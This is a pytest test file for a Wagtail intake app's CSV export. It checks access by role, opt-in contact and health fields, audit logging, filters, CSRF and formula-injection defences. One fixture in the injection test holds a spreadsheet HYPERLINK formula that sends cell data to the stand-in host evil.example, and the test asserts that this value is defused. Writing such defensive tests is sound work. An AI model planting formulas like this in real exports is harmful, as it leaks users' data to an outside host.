"""CSV export: only what the user may see, with the listing's filters, minimal unless ticked, every
sign-up in the file recorded in its audit trail (one uuid per export), no formula injection."""

import csv
import io

import pytest
from wagtail.users.models import UserProfile

from intake.audit import actions as audit
from intake.audit.models import IntakeLogEntry
from intake.models import Role
from intake.workspace import workflow
from intake.workspace.export import safe_cell
from tests.factories import IntakeFactory

from . import workspace_fixtures
from .workspace_fixtures import EXPORT, csrf_client, detail, refused, signed_in

world = workspace_fixtures.world

pytestmark = pytest.mark.django_db


def rows(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_default_export_is_minimal_and_only_what_the_user_may_see(world):
    client = signed_in(world["lekstroom"])
    assert "1 aanmelding wordt geëxporteerd" in client.get(EXPORT).content.decode()
    table = rows(client.post(EXPORT, {}))
    header, *body = table
    assert header == [
        "Kenmerk",
        "Formulier",
        "Uitkomst",
        "Programma",
        "Regio",
        "Gemeente",
        "Status",
        "Ontvangen",
        "Toegewezen aan",
        "Laatste contact",
    ]
    assert [row[0] for row in body] == [world["Lekstroom"].reference]
    text = "\n".join(",".join(row) for row in table)
    assert "Sanne" not in text and "sanne@example.nl" not in text and "depressie" not in text


def test_contact_and_health_only_when_ticked(world):
    client = signed_in(world["lekstroom"])
    header, row = rows(client.post(EXPORT, {"contact": "on"}))
    assert "Naam" in header and "Sanne de Vries" in row and "sanne@example.nl" in row
    assert "Mijn zoon slaapt slecht; ik word behandeld voor depressie." not in row
    header, row = rows(client.post(EXPORT, {"health": "on"}))
    assert "Sanne de Vries" not in row
    assert "Mijn zoon slaapt slecht; ik word behandeld voor depressie." in row
    assert "Psychische problemen" in ",".join(row) or "psychiatric" not in ",".join(row)


def test_every_export_is_recorded_per_sign_up_with_one_uuid(world):
    client = signed_in(world["coordinator"])
    _header, *body = rows(client.post(EXPORT, {"contact": "on"}))
    assert len(body) == 3
    entries = IntakeLogEntry.objects.filter(action=audit.EXPORTED)
    assert sorted(entry.intake_id for entry in entries) == sorted(
        world[key].pk for key in ("Lekstroom", "Utrecht", "waitlist")
    )
    assert {entry.user for entry in entries} == {world["coordinator"]}
    assert len({entry.uuid for entry in entries}) == 1 and entries[0].uuid is not None
    assert all(entry.data == {"fields": ["minimal", "contact"]} for entry in entries)
    # A second export is a second event.
    rows(client.post(EXPORT, {}))
    assert len({entry.uuid for entry in IntakeLogEntry.objects.filter(action=audit.EXPORTED)}) == 2
    # It shows in the sign-up's timeline and in Wagtail's history view of each sign-up.
    lek = signed_in(world["lekstroom"])
    page = lek.get(detail(world["Lekstroom"])).content.decode()
    assert "Opgenomen in een export (basisgegevens, contactgegevens)" in page
    history = lek.get(f"/admin/intake/signups/history/{world['Lekstroom'].pk}/").content.decode()
    assert "Opgenomen in een export (basisgegevens, contactgegevens)" in history
    assert "Opgenomen in een export (basisgegevens)" in history


def test_the_export_honours_the_listings_filters_and_search(world):
    client = signed_in(world["coordinator"])
    host = IntakeFactory(region=world["regions"]["Lekstroom"], role=Role.HOST_FAMILY)
    workflow.change_status(world["Utrecht"], "contacted", user=world["coordinator"])
    assert [r[0] for r in rows(client.post(EXPORT + "?role=host_family", {}))[1:]] == [host.reference]
    assert [r[0] for r in rows(client.post(EXPORT + "?status=contacted", {}))[1:]] == [world["Utrecht"].reference]
    assert [r[0] for r in rows(client.post(EXPORT + "?outcome=waitlist", {}))[1:]] == [world["waitlist"].reference]
    query = "?q=" + world["Lekstroom"].reference.lower()
    assert [r[0] for r in rows(client.post(EXPORT + query, {}))[1:]] == [world["Lekstroom"].reference]
    # The listing links to the export with its filters.
    html = client.get("/admin/intake/signups/", {"status": "contacted"}).content.decode()
    assert 'href="/admin/intake/signups/export/?status=contacted"' in html
    # Only sign-ups in the file are recorded.
    assert set(IntakeLogEntry.objects.filter(action=audit.EXPORTED).values_list("intake_id", flat=True)) == {
        host.pk,
        world["Utrecht"].pk,
        world["waitlist"].pk,
        world["Lekstroom"].pk,
    }


def test_invalid_filters_export_nothing(world):
    client = signed_in(world["coordinator"])
    response = client.post(EXPORT + "?status=banana&created_at_from=gisteren", {})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Deze filters kloppen niet" in response.content.decode()
    assert not IntakeLogEntry.objects.filter(action=audit.EXPORTED).exists()


def test_another_regions_filter_exports_nothing_of_it(world):
    client = signed_in(world["lekstroom"])
    response = client.post(EXPORT + f"?region={world['regions']['Utrecht'].pk}", {})
    # Not a region of theirs: not a valid filter, so no file at all (and never a wider one).
    assert response["Content-Type"].startswith("text/html")
    assert world["Utrecht"].reference not in response.content.decode()
    assert not IntakeLogEntry.objects.filter(action=audit.EXPORTED).exists()


def test_an_editor_gets_nothing(world):
    client = signed_in(world["editor"])
    assert refused(client.get(EXPORT))
    assert refused(client.post(EXPORT, {"contact": "on", "health": "on"}))
    assert not IntakeLogEntry.objects.filter(action=audit.EXPORTED).exists()


def test_the_export_needs_the_csrf_token(world):
    client = csrf_client(world["lekstroom"])
    assert client.post(EXPORT, {"contact": "on"}).status_code == 403
    assert not IntakeLogEntry.objects.filter(action=audit.EXPORTED).exists()


def test_no_formula_injection(world):
    hostile = IntakeFactory(
        region=world["regions"]["Lekstroom"],
        personal={"name": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "phone": "+31 6 0000", "email": "@x"},
    )
    header, *body = rows(signed_in(world["lekstroom"]).post(EXPORT, {"contact": "on"}))
    row = next(row for row in body if row[0] == hostile.reference)
    name = row[header.index("Naam")]
    assert name == '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert row[header.index("Telefoonnummer")] == "'+31 6 0000"
    for cell in (cell for row in body for cell in row):
        assert not cell.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_safe_cell_defuses_formulas(value):
    assert safe_cell(value).startswith("'")


def test_safe_cell_keeps_ordinary_text():
    assert safe_cell("06-00000000") == "06-00000000"
    assert safe_cell("MG-7K3Q-X9PD-R2TW") == "MG-7K3Q-X9PD-R2TW"
    assert safe_cell(None) == ""


def test_english_headers(world):
    client = signed_in(world["lekstroom"])
    profile = UserProfile.get_for_user(world["lekstroom"])
    profile.preferred_language = "en"
    profile.save()
    header = rows(client.post(EXPORT, {}))[0]
    assert header[:3] == ["Reference", "Form", "Outcome"]
